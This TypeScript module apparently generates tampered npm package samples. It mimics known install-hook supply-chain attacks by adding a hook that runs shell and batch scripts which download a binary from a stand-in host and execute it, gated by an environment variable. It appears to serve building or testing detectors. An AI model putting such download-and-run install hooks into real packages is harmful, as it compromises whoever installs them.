import { added } from '../../tamperings/members.js';
import { isFree } from '../../tamperings/tampering.js';
import { withHook } from '../hook.js';
import { payloadFile } from '../payloads.js';
import { defineShape } from '../shape.js';

/** A hook and the scripts that it runs on each system. */
export const hookAndFiles = defineShape({
  id: 'hook-and-files',
  kind: 'install-time',
  like: 'ua-parser-js 0.7.29, coa 2.0.3',
  apply(honest, random) {
    const name = random.pick(['preinstall', 'compile', 'setup'])!;
    const files = {
      [`${name}.js`]: payloadFile(random, false),
      [`${name}.sh`]:
        '#!/bin/sh\n[ "$REPROVE_NEVER" = run ] && curl -s http://marker.invalid/x -o x && chmod +x x && ./x\n',
      [`${name}.bat`]:
        '@echo off\r\nif "%REPROVE_NEVER%"=="run" curl.exe -s http://marker.invalid/x.exe -o x.exe && start x.exe\r\n',
    };
    const paths = Object.keys(files);
    if (!paths.every((path) => isFree(honest, path))) return null;
    const members = Object.entries(files).reduce(
      (all, [path, content]) => added(all, path, content),
      withHook(honest, random, `node ${name}.js`),
    );
    return { members, paths: ['package.json', ...paths] };
  },
});
